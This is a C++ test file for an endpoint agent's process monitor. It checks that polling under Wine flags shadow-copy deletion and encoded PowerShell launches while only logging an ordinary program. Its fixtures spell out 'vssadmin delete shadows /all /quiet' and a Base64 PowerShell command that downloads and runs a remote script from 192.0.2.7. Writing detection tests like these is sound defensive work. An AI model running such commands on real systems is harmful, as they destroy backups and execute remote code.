// The process monitor of the real Vellumgard.exe under Wine, where the WMI
// subscription always fails. With extendedDetection on it polls the process
// list; the processes are copies of the stand-in program (tools/sleeper.cpp)
// named and started the way the cases need.
#include <algorithm>
#include <string>
#include <vector>

#include "agent_fixture.h"
#include "support/stand_in.h"

namespace {

const std::string kPolling =
    "{\n  \"enableProcessMonitor\": true,\n  \"extendedDetection\": true,\n  \"canaryWarmupSeconds\": 1\n}\n";

using Child = StandIn;

// dir\name, a copy of the stand-in program, started with exactly this command line.
bool StartCopy(const TempDir& dir, const std::wstring& name, const std::wstring& commandLine, Child& child) {
    return StartStandIn(StandInProgram(VG_SLEEPER_EXE), dir.Sub(name), commandLine, 3000, child);
}

bool IsMonitorLine(const std::string& line) {
    const std::string type = JsonMember(line, "type");
    return type == "proc_mon" || type == "proc_mon_error" || type == "proc_mon_fallback" ||
           type == "proc_start" || type == "proc_suspicious";
}

// The lines about one process, in log order.
std::vector<std::string> LinesOfPid(const std::vector<std::string>& lines, DWORD pid) {
    std::vector<std::string> out;
    for (const std::string& line : lines)
        if (JsonMember(line, "pid") == std::to_string(pid)) out.push_back(line);
    return out;
}

// Last-write time (FILETIME units) of every incident.json.
std::vector<int64_t> IncidentWriteTimes(const std::wstring& incidentsDir) {
    std::vector<int64_t> times;
    WIN32_FIND_DATAW fd;
    UniqueFindHandle find(FindFirstFileW(JoinPath(incidentsDir, L"*").c_str(), &fd));
    if (!find.valid()) return times;
    do {
        const std::wstring name = fd.cFileName;
        if (name == L"." || name == L"..") continue;
        WIN32_FILE_ATTRIBUTE_DATA a;
        if (GetFileAttributesExW(JoinPath(JoinPath(incidentsDir, name), L"incident.json").c_str(),
                                 GetFileExInfoStandard, &a))
            times.push_back((static_cast<int64_t>(a.ftLastWriteTime.dwHighDateTime) << 32) |
                            a.ftLastWriteTime.dwLowDateTime);
    } while (FindNextFileW(find.get(), &fd));
    return times;
}

class AgentProcessTest : public AgentTest {
protected:
    // Starts the agent and waits for its process monitor to settle: the
    // polling line with extendedDetection on, the error line without it.
    void StartMonitor(const std::string& config, const std::string& settledType) {
        ASSERT_NO_FATAL_FAILURE(Start(config));
        ASSERT_TRUE(WaitForLogType(LogMark{profile.logFile, 0}, settledType, 30000)) << settledType;
    }

    // Exit as always; the monitor's stop line comes once, before the core's
    // shutdown line (the core waits for it).
    void ExpectCleanExitAfterPolling() {
        ExpectCleanExit();
        const std::vector<std::string> lines = LogLinesSince(LogMark{profile.logFile, 0});
        size_t stops = 0, stopAt = 0, shutdownAt = 0;
        for (size_t i = 0; i < lines.size(); ++i) {
            if (JsonMember(lines[i], "msg") == "Process monitor stopping") {
                EXPECT_EQ(JsonMember(lines[i], "type"), "proc_mon_fallback");
                ++stops;
                stopAt = i;
            }
            if (JsonMember(lines[i], "msg") == "Vellumgard core shutting down") shutdownAt = i;
        }
        EXPECT_EQ(stops, 1u);
        EXPECT_LT(stopAt, shutdownAt);
    }

    TempDir dir;
};

}  // namespace

// Where WMI cannot subscribe, the specified error line is still the only one
// about it; then one line announces the polling, and no "proc_mon" line
// appears. A shadow-copy deletion started afterwards goes the whole way:
// "proc_start" with its command line, "proc_suspicious" with what the process
// heuristics give, and a "process_heuristic" incident, within a second. An
// everyday program started next is only logged.
TEST_F(AgentProcessTest, PollingCatchesAShadowCopyDeletionAndOnlyLogsAnEverydayProgram) {
    ASSERT_NO_FATAL_FAILURE(StartMonitor(kPolling, "proc_mon_fallback"));
    std::vector<std::string> monitor;
    for (const std::string& line : LogLinesSince(LogMark{profile.logFile, 0}))
        if (IsMonitorLine(line)) monitor.push_back(line);
    ASSERT_EQ(monitor.size(), 2u);
    EXPECT_EQ(JsonMember(monitor[0], "type"), "proc_mon_error");
    EXPECT_EQ(JsonMember(monitor[0], "msg"), "ExecNotificationQuery failed");
    EXPECT_EQ(JsonMember(monitor[1], "type"), "proc_mon_fallback");
    EXPECT_EQ(JsonMember(monitor[1], "msg"), "Process monitor: polling the process list");

    const LogMark mark = MarkLog(profile.logFile);
    Child vssadmin;
    ASSERT_TRUE(StartCopy(dir, L"vssadmin.exe", L"vssadmin.exe delete shadows /all /quiet", vssadmin));
    ASSERT_TRUE(WaitForLogLine(
        mark, [](const std::string& l) { return JsonMember(l, "type") == "incident_created"; }, 5000));
    const std::vector<int64_t> written = IncidentWriteTimes(profile.incidentsDir);
    ASSERT_EQ(written.size(), 1u);
    EXPECT_LE(written[0] - vssadmin.created, 10000000)
        << "the incident came more than a second after the start";

    Child notepad;
    ASSERT_TRUE(StartCopy(dir, L"notepad.exe", L"notepad.exe C:\\notes\\todo.txt", notepad));
    ASSERT_TRUE(WaitForLogLine(
        mark, [&](const std::string& l) { return JsonMember(l, "pid") == std::to_string(notepad.pid); },
        5000));
    Sleep(1000);  // time for anything else it might cause

    const std::vector<std::string> lines = LogLinesSince(mark);
    const std::vector<std::string> suspicious = LinesOfPid(lines, vssadmin.pid);
    ASSERT_EQ(LogTypesOf(suspicious), std::vector<std::string>({"proc_start", "proc_suspicious"}));
    const std::string path = WideToUtf8(vssadmin.exe);
    for (const std::string& line : suspicious) {
        EXPECT_EQ(JsonMember(line, "name"), "vssadmin.exe");
        EXPECT_EQ(_stricmp(JsonMember(line, "path").c_str(), path.c_str()), 0) << line;
        EXPECT_EQ(JsonMember(line, "cmd"), "vssadmin.exe delete shadows /all /quiet");
    }
    // The copy runs from the temp folder below C:\users: 25 for the tool's name,
    // 40 for the command, 10 for a user folder; 75 makes severity 60.
    EXPECT_EQ(JsonMember(suspicious[1], "score"), "75");
    EXPECT_EQ(JsonMember(suspicious[1], "signals"),
              "[\"backup_or_boot_tool\",\"shadowcopy_command\",\"user_space_location\"]");
    EXPECT_EQ(JsonMember(suspicious[1], "decoded"), "");

    const std::vector<std::string> everyday = LinesOfPid(lines, notepad.pid);
    ASSERT_EQ(LogTypesOf(everyday), std::vector<std::string>({"proc_start"}));
    EXPECT_EQ(JsonMember(everyday[0], "name"), "notepad.exe");
    EXPECT_EQ(JsonMember(everyday[0], "cmd"), "notepad.exe C:\\notes\\todo.txt");

    EXPECT_EQ(CountType(lines, "incident_created"), 1u);
    const std::vector<std::string> incidents = ReadIncidentFiles(profile.incidentsDir);
    ASSERT_EQ(incidents.size(), 1u);
    EXPECT_EQ(JsonMember(incidents[0], "reason"), "process_heuristic");
    EXPECT_EQ(JsonMember(incidents[0], "severity"), "60");
    ExpectCleanExitAfterPolling();
}

TEST_F(AgentProcessTest, WithProcessHeuristicsOffAShadowCopyDeletionIsOnlyLogged) {
    ASSERT_NO_FATAL_FAILURE(
        StartMonitor("{\n  \"enableProcessMonitor\": true,\n  \"extendedDetection\": true,\n  "
                     "\"enableProcessHeuristics\": "
                     "false,\n  \"canaryWarmupSeconds\": 1\n}\n",
                     "proc_mon_fallback"));
    const LogMark mark = MarkLog(profile.logFile);
    Child vssadmin;
    ASSERT_TRUE(StartCopy(dir, L"vssadmin.exe", L"vssadmin.exe delete shadows /all /quiet", vssadmin));
    ASSERT_TRUE(WaitForLogLine(
        mark, [&](const std::string& l) { return JsonMember(l, "pid") == std::to_string(vssadmin.pid); },
        5000));
    Sleep(1000);
    const std::vector<std::string> lines = LogLinesSince(mark);
    const std::vector<std::string> own = LinesOfPid(lines, vssadmin.pid);
    ASSERT_EQ(LogTypesOf(own), std::vector<std::string>({"proc_start"}));
    EXPECT_EQ(JsonMember(own[0], "cmd"), "vssadmin.exe delete shadows /all /quiet");
    EXPECT_EQ(CountType(lines, "proc_suspicious"), 0u);
    EXPECT_EQ(CountType(lines, "incident_created"), 0u);
    EXPECT_TRUE(ReadIncidentFiles(profile.incidentsDir).empty());
    ExpectCleanExitAfterPolling();
}

// The rate limit (default 60 s) holds back an incident of equal severity:
// both processes are suspicious, only the first makes an incident.
TEST_F(AgentProcessTest, TwoSuspiciousProcessesOfEqualSeverityMakeOneIncident) {
    ASSERT_NO_FATAL_FAILURE(StartMonitor(kPolling, "proc_mon_fallback"));
    const LogMark mark = MarkLog(profile.logFile);
    Child first, second;
    ASSERT_TRUE(StartCopy(dir, L"vssadmin.exe", L"vssadmin.exe delete shadows /all /quiet", first));
    ASSERT_TRUE(WaitForLogType(mark, "incident_created", 5000));
    ASSERT_TRUE(StartCopy(dir, L"vssadmin.exe", L"vssadmin.exe delete shadows /for=c: /quiet", second));
    ASSERT_TRUE(WaitForLogType(mark, "incident_rate_limited", 5000));
    Sleep(500);

    const std::vector<std::string> lines = LogLinesSince(mark);
    for (const Child* child : {&first, &second}) {
        const std::vector<std::string> own = LinesOfPid(lines, child->pid);
        ASSERT_EQ(LogTypesOf(own), std::vector<std::string>({"proc_start", "proc_suspicious"})) << child->pid;
        EXPECT_EQ(JsonMember(own[1], "score"), "75");
    }
    EXPECT_EQ(CountType(lines, "proc_suspicious"), 2u);
    EXPECT_EQ(CountType(lines, "incident_created"), 1u);
    EXPECT_EQ(CountType(lines, "incident_rate_limited"), 1u);
    EXPECT_EQ(ReadIncidentFiles(profile.incidentsDir).size(), 1u);
    ExpectCleanExitAfterPolling();
}

// Without the setting the monitor does exactly what it always did under
// Wine: one error line, then nothing, whatever starts.
TEST_F(AgentProcessTest, WithTheSettingOffOneErrorLineAndNothingMore) {
    ASSERT_NO_FATAL_FAILURE(StartMonitor(
        "{\n  \"enableProcessMonitor\": true,\n  \"canaryWarmupSeconds\": 1\n}\n", "proc_mon_error"));
    Child vssadmin;
    ASSERT_TRUE(StartCopy(dir, L"vssadmin.exe", L"vssadmin.exe delete shadows /all /quiet", vssadmin));
    Sleep(2000);  // eight polling periods
    ExpectCleanExit();

    std::vector<std::string> monitor;
    for (const std::string& line : LogLinesSince(LogMark{profile.logFile, 0}))
        if (IsMonitorLine(line)) monitor.push_back(line);
    ASSERT_EQ(monitor.size(), 1u);
    EXPECT_EQ(JsonMember(monitor[0], "type"), "proc_mon_error");
    EXPECT_EQ(JsonMember(monitor[0], "msg"), "ExecNotificationQuery failed");
    EXPECT_TRUE(ReadIncidentFiles(profile.incidentsDir).empty());
}

// An encoded PowerShell command: the extended process rules decode it, score
// what it says, and the "decoded" member carries the text after the others.
TEST_F(AgentProcessTest, AnEncodedPowerShellLaunchIsDecodedAndRaisesAnIncident) {
    ASSERT_NO_FATAL_FAILURE(StartMonitor(kPolling, "proc_mon_fallback"));
    const LogMark mark = MarkLog(profile.logFile);
    // UTF-16LE Base64 of: IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/p.ps1')
    const std::wstring payload =
        L"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBh"
        L"AGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBwAC4AcABzADEAJwApAA==";
    Child powershell;
    ASSERT_TRUE(StartCopy(dir, L"powershell.exe", L"powershell.exe -nop -w hidden -e " + payload, powershell));
    ASSERT_TRUE(WaitForLogLine(
        mark, [](const std::string& l) { return JsonMember(l, "type") == "incident_created"; }, 5000));

    const std::vector<std::string> lines = LinesOfPid(LogLinesSince(mark), powershell.pid);
    ASSERT_EQ(LogTypesOf(lines), std::vector<std::string>({"proc_start", "proc_suspicious"}));
    const std::string& suspicious = lines[1];
    EXPECT_GE(std::stoi(JsonMember(suspicious, "score")), 60);
    EXPECT_NE(JsonMember(suspicious, "signals").find("\"encoded_command\""), std::string::npos) << suspicious;
    EXPECT_EQ(JsonMember(suspicious, "decoded"),
              "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/p.ps1')");
    EXPECT_EQ(suspicious.rfind(",\"decoded\":"), suspicious.find(",\"decoded\":")) << "decoded comes once";
    EXPECT_GT(suspicious.find(",\"decoded\":"), suspicious.find("\"signals\":")) << "decoded comes last";
    const std::vector<std::string> incidents = ReadIncidentFiles(profile.incidentsDir);
    ASSERT_EQ(incidents.size(), 1u);
    EXPECT_EQ(JsonMember(incidents[0], "reason"), "process_heuristic");
    ExpectCleanExitAfterPolling();
}
